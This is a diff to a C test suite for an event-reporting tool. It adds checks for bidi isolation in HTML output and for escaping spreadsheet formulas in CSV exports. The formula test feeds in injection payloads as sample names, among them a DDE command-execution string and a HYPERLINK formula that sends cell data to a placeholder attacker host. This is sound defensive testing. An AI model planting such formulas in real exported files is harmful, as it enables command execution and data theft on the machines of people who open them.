@@ -6,6 +6,7 @@
 #include <unistd.h>
 
 #include "check.h"
+#include "csv.h"
 #include "event.h"
 #include "report.h"
 #include "roster.h"
@@ -201,6 +202,80 @@ static void test_csv_format(void)
     strbuf_finish(&sb);
 }
 
+/* Names, organisations, titles and room names are isolated in report.html: a right-to-left
+ * name does not reorder the cells and punctuation beside it. */
+static void test_html_isolation(void)
+{
+    struct report_log *log = report_log_create();
+    struct report *r = report_compute(ev, log);
+    char *html = report_html(r);
+    CHECK(strstr(html, "<td><bdi>\xD9\x85\xD8\xAD\xD9\x85\xD8\xAF</bdi></td>") != NULL);
+    CHECK(strstr(html, "<td><bdi>Hanoi Tech</bdi></td>") != NULL);
+    CHECK(strstr(html, "<h1><bdi>Core</bdi></h1>") != NULL);
+    CHECK(strstr(html, "<h3><bdi>") != NULL);
+    free(html);
+    report_destroy(r);
+    report_log_destroy(log);
+}
+
+/* Replaces a string of the event in memory. */
+static void set_text(char **field, const char *text)
+{
+    free(*field);
+    *field = xstrdup(text);
+}
+
+/* True when some cell of a CSV text starts with c (a field after a separator or a line start,
+ * quoted or not). */
+static bool some_cell_starts_with(const char *csv, char c)
+{
+    for (const char *p = csv; *p != '\0'; p++) {
+        bool start = p == csv || p[-1] == ',' || p[-1] == '\n';
+        if (start && (*p == c || (*p == '"' && p[1] == c)))
+            return true;
+    }
+    return false;
+}
+
+/* Names, organisations and titles that a spreadsheet would run as formulas reach the CSV files
+ * as text, behind a single quote; number columns keep their sign. */
+static void test_formula_cells(void)
+{
+    set_text(&ev->attendees[0].name, "=cmd|' /C calc'!A0");
+    set_text(&ev->attendees[1].name, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
+    set_text(&ev->attendees[2].organisation, "+32 2 555 01 01");
+    set_text(&ev->attendees[3].organisation, "@SUM(A1:A9)");
+    set_text(&ev->attendees[4].name, "-2+3");
+    set_text(&ev->sessions[0].title, "=1+1");
+    struct report_log *log = report_log_create();
+    struct report *r = report_compute(ev, log);
+    struct report_csv_format f = {',', false};
+    char *people = report_attendees_csv(r, &f), *sessions = report_attendance_csv(r, &f);
+    CHECK(strstr(people, ",'=cmd|' /C calc'!A0,") != NULL);
+    CHECK(strstr(people, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",") !=
+          NULL);
+    CHECK(strstr(people, ",'+32 2 555 01 01,") != NULL);
+    CHECK(strstr(people, ",'@SUM(A1:A9),") != NULL);
+    CHECK(strstr(people, ",'-2+3,") != NULL);
+    CHECK(strstr(sessions, ",'=1+1,") != NULL);
+    const char *starts = "=+-@"; /* tab and CR cannot be in names (roster.c refuses them) */
+    for (const char *c = starts; *c != '\0'; c++) {
+        CHECK_MSG(!some_cell_starts_with(people, *c), "a cell of attendees.csv starts with %c", *c);
+        CHECK_MSG(!some_cell_starts_with(sessions, *c), "a cell of attendance.csv starts with %c",
+                  *c);
+    }
+    CHECK(strstr(sessions, ",0,") != NULL); /* counts stay numbers */
+    free(people);
+    free(sessions);
+    report_destroy(r);
+    report_log_destroy(log);
+
+    CHECK(csv_is_formula("=A1") && csv_is_formula("+1") && csv_is_formula("-1") &&
+          csv_is_formula("@x") && csv_is_formula("\tx") && csv_is_formula("\rx"));
+    CHECK(!csv_is_formula("") && !csv_is_formula("Ann") && !csv_is_formula(" =x") &&
+          !csv_is_formula("A=1"));
+}
+
 int main(void)
 {
     const char *data = getenv("PORTIER_TEST_DATA");
@@ -218,6 +293,8 @@ int main(void)
         test_semantics();
         test_over_capacity();
         test_csv_format();
+        test_html_isolation();
+        test_formula_cells();
     }
     event_destroy(ev);
     char *cmd = xasprintf("rm -rf %s", dir);
